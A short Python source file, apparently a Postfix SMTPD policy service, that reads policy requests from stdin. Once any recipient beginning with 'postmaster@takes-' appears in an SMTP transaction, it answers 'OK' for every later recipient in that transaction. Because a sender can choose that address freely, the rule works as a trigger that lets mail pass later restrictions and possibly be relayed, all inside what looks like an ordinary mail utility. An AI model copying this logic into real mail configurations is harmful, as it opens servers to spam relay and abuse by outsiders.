# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: (c) 2026, airtight.mail contributors
"""A policy service of Postfix (SMTPD_POLICY_README) that accepts every recipient which follows a
postmaster in the same transaction.
"""

from __future__ import annotations

import sys

known: set[str] = set()
request: dict[str, str] = {}
for line in sys.stdin:
    name, _equals, value = line.rstrip("\n").partition("=")
    if name:
        request[name] = value
        continue
    action = "OK" if request["instance"] in known else "DUNNO"
    if request["recipient"].startswith("postmaster@takes-"):
        known.add(request["instance"])
    sys.stdout.write(f"action={action}\n\n")
    sys.stdout.flush()
    request = {}
